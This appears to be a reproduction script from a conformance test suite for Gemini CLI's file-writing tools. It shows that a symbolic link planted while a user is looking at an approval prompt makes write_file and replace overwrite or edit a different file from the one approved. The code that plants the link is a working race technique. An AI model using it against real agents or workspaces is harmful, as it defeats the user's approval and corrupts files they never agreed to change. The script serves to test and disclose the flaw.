// New: an approved write_file or replace lands on whatever a symbolic link planted while
// its confirmation waited points to, as long as that is still inside the workspace. The
// invocation fixes its path when it is built (`resolveToRealPath`), the user confirms a
// diff of that file, and `execute` checks only that the path is still in the workspace
// (`validatePathAccess`) before reading and writing it, following links. So the user
// approves one file and another one is overwritten or edited. capconf (SPEC 1.1, APPR-01)
// wants the approved call to refuse, or to act on the approved file, never elsewhere.
// The script builds each call with Gemini's own tools, asks for the confirmation details
// (what the user is shown), plants the link, then runs the call as an approval would.
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {core, verdict} from './_common.mjs';

const home = fs.mkdtempSync(path.join(os.tmpdir(), 'repro-link-'));
const ws = path.join(home, 'ws');
fs.mkdirSync(path.join(ws, 'sub'), {recursive: true});
fs.mkdirSync(path.join(ws, 'other'));
fs.writeFileSync(path.join(ws, 'other.txt'), 'keep\n');
fs.writeFileSync(path.join(ws, 'edit.txt'), 'one two\n');
fs.writeFileSync(path.join(ws, 'other-edit.txt'), 'one two\n');
process.env.GEMINI_CLI_HOME = home;
// write_file may ask the model to correct content: a model that answers nothing, offline
const {GenerateContentResponse} = await import('@google/genai');
const empty = () => Object.assign(new GenerateContentResponse(),
  {candidates: [{content: {role: 'model', parts: [{text: '{}'}]}, finishReason: 'STOP', index: 0}]});
core.FakeContentGenerator.fromFile = async () => ({
  generateContent: async () => empty(),
  generateContentStream: async () => (async function* () { yield empty(); })(),
  countTokens: async () => ({totalTokens: 1}), embedContent: async () => ({embeddings: []})});
const config = new core.Config({sessionId: 'repro', targetDir: ws, cwd: ws, debugMode: false,
  model: 'gemini-2.5-flash', telemetry: {enabled: false}, usageStatisticsEnabled: false,
  mcpEnabled: false, extensionsEnabled: false, enableHooks: false, skillsSupport: false,
  coreTools: ['write_file', 'replace'], fakeResponses: path.join(home, 'model')});
await config.refreshAuth(core.AuthType.USE_GEMINI, 'offline');
await config.initialize();
const registry = config.getToolRegistry();
const signal = new AbortController().signal;

async function race(tool, args, plant) {
  const invocation = registry.getTool(tool).build(args);
  const shown = await invocation.getConfirmationDetails(signal); // what the user approves
  plant();
  const result = await invocation.execute({abortSignal: signal});
  return {confirmed: path.relative(ws, shown.filePath), error: result.error?.type ?? null};
}

const evidence = {};
evidence.write_file = await race('write_file', {file_path: path.join(ws, 'notes.txt'), content: 'PLANTED'},
  () => fs.symlinkSync('other.txt', path.join(ws, 'notes.txt')));
evidence.write_file.other_txt = fs.readFileSync(path.join(ws, 'other.txt'), 'utf8');
evidence.write_file_directory = await race('write_file', {file_path: path.join(ws, 'sub', 'notes.txt'), content: 'PLANTED'},
  () => { fs.renameSync(path.join(ws, 'sub'), path.join(ws, 'sub.old')); fs.symlinkSync('other', path.join(ws, 'sub')); });
evidence.write_file_directory.other_notes_txt = fs.readFileSync(path.join(ws, 'other', 'notes.txt'), 'utf8');
evidence.replace = await race('replace', {file_path: path.join(ws, 'edit.txt'), old_string: 'two', new_string: 'PLANTED', instruction: 'edit'},
  () => { fs.rmSync(path.join(ws, 'edit.txt')); fs.symlinkSync('other-edit.txt', path.join(ws, 'edit.txt')); });
evidence.replace.other_edit_txt = fs.readFileSync(path.join(ws, 'other-edit.txt'), 'utf8');
fs.rmSync(home, {recursive: true, force: true});
verdict('link-planted-while-confirming',
  evidence.write_file.confirmed === 'notes.txt' && evidence.write_file.error === null
    && evidence.write_file.other_txt === 'PLANTED'
  && evidence.write_file_directory.confirmed === path.join('sub', 'notes.txt')
    && evidence.write_file_directory.error === null && evidence.write_file_directory.other_notes_txt === 'PLANTED'
  && evidence.replace.confirmed === 'edit.txt' && evidence.replace.error === null
    && evidence.replace.other_edit_txt === 'one PLANTED\n',
  evidence);
